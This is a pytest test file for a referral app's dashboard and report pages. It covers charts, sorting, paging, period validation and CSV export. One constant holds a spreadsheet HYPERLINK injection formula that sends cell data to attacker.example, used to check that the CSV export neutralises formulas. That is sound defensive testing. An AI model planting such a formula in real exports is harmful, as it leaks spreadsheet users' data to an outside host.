"""The dashboard and report pages draw the report services' own numbers, for the quarter
in tests/reports/scenario.py, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from bs4 import BeautifulSoup, Tag
from fastapi.testclient import TestClient

from referral_engine import clock
from referral_engine.clock import wall_clock
from referral_engine.db import unit_of_work
from referral_engine.reports import service as reports
from referral_engine.reports.funnel import STEPS, funnel
from referral_engine.reports.period import parse_period
from referral_engine.reports.sources import SourceGrouping, source_report
from referral_engine.users.models import Role
from referral_engine.web.app import create_app
from tests.agency import Agency
from tests.conftest import ADMIN_EMAIL, ADMIN_PASSWORD, at
from tests.reports.scenario import build, move, refer
from tests.team_members import PASSWORD, member

NOW = "2026-11-20T12:00:00Z"  # in 2026-Q4 and ISO week 2026-W47
FORMULA = '=HYPERLINK("https://attacker.example/?x="&A1,"Click for your reward")'


@pytest.fixture
def quarter(agency: Agency) -> Iterator[Agency]:
    build(agency)
    agency.configure("[program]\ncost_per_month = 500\n", now=NOW)
    clock.pin(at(NOW))
    yield agency
    clock.pin(None)


def signed_in(url: str, email: str = ADMIN_EMAIL, password: str = ADMIN_PASSWORD) -> TestClient:
    browser = TestClient(create_app(url))
    answer = browser.post("/login", data={"email": email, "password": password})
    assert answer.status_code in (200, 303), answer.text
    return browser


def html(client: TestClient, path: str, status: int = 200) -> BeautifulSoup:
    response = client.get(path)
    assert response.status_code == status, response.text
    return BeautifulSoup(response.text, "html.parser")


def drawn(svg: Tag, shape: str) -> list[tuple[str, float]]:
    return [(str(s["data-label"]), float(str(s["data-value"]))) for s in svg.select(shape)]


def test_the_funnel_page_draws_the_funnel_reports_counts(quarter: Agency) -> None:
    page = html(signed_in(quarter.url), "/reports/funnel?quarter=2026-Q4")
    with unit_of_work(quarter.url) as session:
        zone = reports.agency_zone(session)
        period = parse_period("2026-10-01", "2026-12-31", zone=zone, now=at(NOW))
        expected = funnel(session, period=period).counts
    svg = page.select_one("svg#funnel-chart")
    assert svg is not None
    assert drawn(svg, "rect.step") == [(label, expected[key]) for key, label in STEPS]
    table = {td["data-step"]: int(td.text) for td in page.select("td[data-step]")}
    assert table == expected
    assert expected["referrals_received"] == 5, "the scenario's five Q4 referrals"


def test_the_roi_page_draws_premium_commission_cost_and_net(quarter: Agency) -> None:
    page = html(signed_in(quarter.url), "/reports/roi?from=2026-10-01&to=2026-12-31")
    svg = page.select_one("svg#roi-chart")
    assert svg is not None
    # The ROI report's numbers (tests/reports/test_funnel_roi.py): 3,700 premium, 494
    # commission, three months at 500, net -1,006; a negative bar is drawn in red.
    assert drawn(svg, "rect.bar") == [
        ("Premium", 3700.0),
        ("Commission", 494.0),
        ("Program cost", 1500.0),
        ("Net", -1006.0),
    ]
    assert svg.select("rect.bar")[3]["fill"] == "#b42318"
    assert page.select_one("td[data-roi=roi]").text == "-67.1%"  # type: ignore[union-attr]
    assert page.select_one("td[data-roi=net]").text == "-1,006.00 USD"  # type: ignore[union-attr]


def test_the_dashboard_draws_the_weekly_four_trends_funnel_referrers_and_roi(
    quarter: Agency,
) -> None:
    page = html(signed_in(quarter.url), "/")
    with unit_of_work(quarter.url) as session:
        weeks = reports.recent_weeks(session, until="2026-W47", count=12)
        zone = reports.agency_zone(session)
        q4 = parse_period(None, None, zone=zone, now=at(NOW))
        counts = funnel(session, period=q4).counts
        referrers = source_report(session, period=q4, by=SourceGrouping.referrer).rows
    assert page.h1 is not None and page.h1.text == "Week 2026-W47"
    for key, _ in reports.HEADLINE:
        svg = page.select_one(f"svg#trend-{key}")
        assert svg is not None, key
        assert drawn(svg, "circle.point") == [(n.week, n[key]) for n in reversed(weeks)], key
    received = page.select_one("svg#trend-referrals_received")
    assert received is not None
    by_week = dict(drawn(received, "circle.point"))
    assert (by_week["2026-W45"], by_week["2026-W46"]) == (4, 1), "referrals 1-4, then 5"
    funnel_svg = page.select_one("svg#dashboard-funnel")
    assert funnel_svg is not None
    assert drawn(funnel_svg, "rect.step") == [(label, counts[key]) for key, label in STEPS]
    top = page.select_one("svg#top-referrers-chart")
    assert top is not None
    named = [(r.source, float(r.received)) for r in referrers if r.kind != "external"]
    assert sorted(drawn(top, "rect.bar"), key=lambda d: -d[1]) == sorted(named, key=lambda d: -d[1])
    assert drawn(top, "rect.bar")[0][1] == 2, "the client C-1 sent two referrals in Q4"
    roi = page.select_one("svg#dashboard-roi")
    assert roi is not None
    assert dict(drawn(roi, "rect.bar"))["Commission"] == 494.0


def test_every_chart_is_labelled_and_uses_no_inline_style(quarter: Agency) -> None:
    client = signed_in(quarter.url)
    for path in ("/", "/reports/sources", "/reports/funnel", "/reports/roi"):
        page = html(client, path)
        svgs = page.select("svg")
        assert svgs, path
        for svg in svgs:
            assert svg["role"] == "img"
            assert "viewBox" in svg.attrs or "viewbox" in svg.attrs
            title_id, desc_id = str(svg["aria-labelledby"]).split()
            assert page.find(id=title_id).name == "title"  # type: ignore[union-attr]
            assert page.find(id=desc_id).name == "desc"  # type: ignore[union-attr]
        assert page.select("[style]") == [], path
        assert page.select("script:not([src])") == [], path


def source_names(page: BeautifulSoup) -> list[str]:
    return [str(tr["data-source"]) for tr in page.select("table.sortable tbody tr[data-source]")]


def test_the_sources_table_sorts_by_a_column_from_its_header_links(quarter: Agency) -> None:
    client = signed_in(quarter.url)
    base = "/reports/sources?quarter=2026-Q4&by=referrer"
    default = html(client, base)
    # The report's order: converted, then received, most first.
    assert source_names(default) == ["C-1", "Oak Street Realty", "Maria Lopez", "external"]
    by_received = html(client, base + "&sort=received&dir=desc")
    counts = [int(tr.select("td")[2].text) for tr in by_received.select("table.sortable tbody tr")]
    assert counts == sorted(counts, reverse=True) and counts[0] == 2
    by_name = html(client, base + "&sort=source&dir=asc")
    names = source_names(by_name)
    assert names == sorted(names, key=str.casefold)
    header = by_name.select_one("th[aria-sort] a")
    assert header is not None and header["data-sort"] == "source"
    assert "dir=desc" in str(header["href"]), "a second click turns the order round"
    chart = by_name.select_one("svg#sources-chart")
    assert chart is not None
    assert [label for label, _ in drawn(chart, "rect.bar")] == names


def test_a_long_sources_table_pages_by_fifty_and_the_csv_keeps_every_row(
    quarter: Agency,
) -> None:
    for n in range(60):
        partner = {"kind": "partner", "name": f"Realty {n:02d}", "partner_type": "Realtor"}
        refer(quarter, 100 + n, "HOME", partner, "2026-11-16T15:00:00Z")
    clock.pin(at(NOW))
    client = signed_in(quarter.url)
    base = "/reports/sources?quarter=2026-Q4&by=partner&sort=source&dir=asc"
    first = html(client, base)
    names = source_names(first)
    assert len(names) == 50 and names == sorted(names, key=str.casefold)
    assert "Showing 1–50 of 62" in first.select_one(".pager .count").text  # type: ignore[union-attr]
    following = first.select_one(".pager a[rel=next]")
    assert following is not None and "sort=source" in str(following["href"])
    second = html(client, str(following["href"]))
    assert len(source_names(second)) == 12 and not set(source_names(second)) & set(names)
    assert "Showing 51–62 of 62" in second.select_one(".pager .count").text  # type: ignore[union-attr]
    rows = list(csv.reader(io.StringIO(client.get(base + "&format=csv").text)))
    assert len(rows) == 1 + 62
    past = html(client, base + "&page=9")
    assert "There is no page 9" in past.text and len(source_names(past)) == 12


def test_a_sort_by_an_unknown_column_says_so_and_keeps_the_reports_order(
    quarter: Agency,
) -> None:
    client = signed_in(quarter.url)
    page = html(client, "/reports/sources?quarter=2026-Q4&sort=nonsense", status=422)
    assert "'nonsense' is not a column" in page.select_one("[role=alert]").text  # type: ignore[union-attr]
    assert source_names(page) == source_names(html(client, "/reports/sources?quarter=2026-Q4"))


def test_the_sources_csv_downloads_as_an_attachment_with_formulas_neutralized(
    quarter: Agency,
) -> None:
    partner = {"kind": "partner", "external_id": None, "name": FORMULA, "partner_type": "Realtor"}
    refer(quarter, 7, "HOME", partner, "2026-11-16T15:00:00Z")
    clock.pin(at(NOW))
    client = signed_in(quarter.url)
    response = client.get("/reports/sources?quarter=2026-Q4&by=partner&sort=source&format=csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == (
        'attachment; filename="sources-partner-2026-10-01-to-2026-12-31.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][:4] == ["source", "kind", "received", "contacted_within_sla"]
    assert ["'" + FORMULA, "partner:realtor", "1"] in [row[:3] for row in rows[1:]]
    assert len(response.text.splitlines()) == len(rows) == 4  # header + 3 partners, no wrap
    assert [row[0] for row in rows[1:]] == sorted((r[0] for r in rows[1:]), reverse=True)


@pytest.mark.parametrize(
    ("query", "field", "words"),
    [
        ("quarter=2026-Q5", "quarter", "expected YYYY-QN"),
        ("from=2026-13-01", "from", "not a date like 2026-10-01"),
        ("from=2026-12-01&to=2026-11-01", "from", "is after to"),
        ("quarter=9999-Q4", "quarter", "this far from today cannot be counted"),
        ("quarter=0000-Q1", "quarter", "this far from today cannot be counted"),
        ("to=9999-12-31", "to", "this far from today cannot be counted"),
    ],
)
def test_a_bad_period_shows_the_page_again_with_a_plain_message(
    quarter: Agency, query: str, field: str, words: str
) -> None:
    client = signed_in(quarter.url)
    for path in ("/reports/sources", "/reports/funnel", "/reports/roi"):
        page = html(client, f"{path}?{query}", status=422)
        message = page.select_one(f"#{field}-error")
        assert message is not None and words in message.text, path
        kept = dict(part.split("=") for part in query.split("&"))
        for name, value in kept.items():
            assert page.select_one(f"input[name={name}]")["value"] == value  # type: ignore[index]
        assert page.select("svg") == [], "no numbers for a period that was not understood"


def test_a_bad_week_shows_the_dashboard_and_hub_with_a_plain_message(quarter: Agency) -> None:
    client = signed_in(quarter.url)
    for path in ("/?week=2026-W54", "/reports?week=2026-W54"):
        page = html(client, path, status=422)
        alert = page.select_one("[role=alert]")
        assert alert is not None and "has no week 54" in alert.text, path
        if path.startswith("/?"):
            assert page.h1 is not None and page.h1.text == "Week 2026-W47", "this week instead"
    for path in ("/?week=9999-W52", "/reports?week=0001-W01"):
        page = html(client, path, status=422)
        alert = page.select_one("[role=alert]")
        assert alert is not None and "is not between 1900 and 9998" in alert.text, path


def test_the_reports_hub_links_each_report(quarter: Agency) -> None:
    page = html(signed_in(quarter.url), "/reports")
    hrefs = [a["href"] for a in page.select(".report-links a")]
    assert hrefs == ["/reports/sources", "/reports/funnel", "/reports/roi"]


def test_a_producers_dashboard_labels_agency_numbers_and_shows_their_own_tasks(
    quarter: Agency,
) -> None:
    member(quarter.url, email="sam@agency.example", role=Role.producer, name="Sam Ortiz")
    sam = next(u["id"] for u in quarter.api.get("/api/v1/users").json() if u["name"] == "Sam Ortiz")
    referrals = quarter.api.get("/api/v1/referrals").json()
    oak = next(r["id"] for r in referrals if r["prospect"]["first_name"] == "Prospect3")
    move(quarter, oak, "2026-11-11T15:00:00Z", owner_id=sam)
    clock.pin(at(NOW))
    producer = html(signed_in(quarter.url, "sam@agency.example", PASSWORD), "/")
    own = producer.select_one("svg#own-book-chart")
    assert own is not None, "a producer sees their own book's referrals"
    assert drawn(own, "rect.bar") == [
        ("Received", 1),
        ("Contacted in SLA", 1),
        ("Quoted", 1),
        ("Converted", 1),
    ]
    assert producer.select_one("[data-own=close_rate]").text.startswith("Close rate: 100%")  # type: ignore[union-attr]
    covers = producer.select_one("[data-covers=agency]")
    assert covers is not None
    assert "Whole agency" in covers.text and "not only your book" in covers.text
    mine = producer.select_one(".overdue [data-covers]")
    assert mine is not None and mine["data-covers"] == "mine"
    assert producer.select_one("[data-overdue]").text == "0"  # type: ignore[union-attr]
    principal = html(signed_in(quarter.url), "/")
    assert "not only your book" not in principal.text
    everyone = principal.select_one(".overdue [data-covers]")
    assert everyone is not None and everyone["data-covers"] == "agency"
    assert principal.select_one("svg#own-book-chart") is None, "the agency's view by default"
    own_view = html(signed_in(quarter.url), "/?who=mine")
    assert own_view.select_one("svg#own-book-chart") is not None


def test_the_dashboard_counts_overdue_tasks_and_links_the_most_overdue(quarter: Agency) -> None:
    tasks = quarter.api.get("/api/v1/tasks", params={"status": "open"}).json()
    overdue = sorted((t for t in tasks if at(t["due_at"]) < at(NOW)), key=lambda t: t["due_at"])
    assert len(overdue) > 5, "the scenario leaves more thank-you tasks than the dashboard lists"
    page = html(signed_in(quarter.url), "/")
    assert page.select_one("[data-overdue]").text == str(len(overdue))  # type: ignore[union-attr]
    links = page.select(".overdue-list a")
    assert [a.text for a in links] == [t["title"] for t in overdue[:5]]
    assert links[0]["href"] == f"/tasks?show=all#task-{overdue[0]['id']}"
    with unit_of_work(quarter.url) as session:
        zone = reports.agency_zone(session).key
    due = page.select_one(".overdue-list li .muted")
    assert due is not None and zone != "UTC"
    assert due.text == f"due {wall_clock(at(overdue[0]['due_at']), zone)}", "the agency's clock"


def test_an_unknown_grouping_shows_the_sources_page_again_with_the_groupings_named(
    quarter: Agency,
) -> None:
    page = html(signed_in(quarter.url), "/reports/sources?by=carrier", status=422)
    alert = page.select_one("[role=alert]")
    assert alert is not None
    assert "'carrier' is not one of referrer, partner, trigger, segment" in alert.text
    assert page.select("svg") == [] and page.select("select[name=by] option")
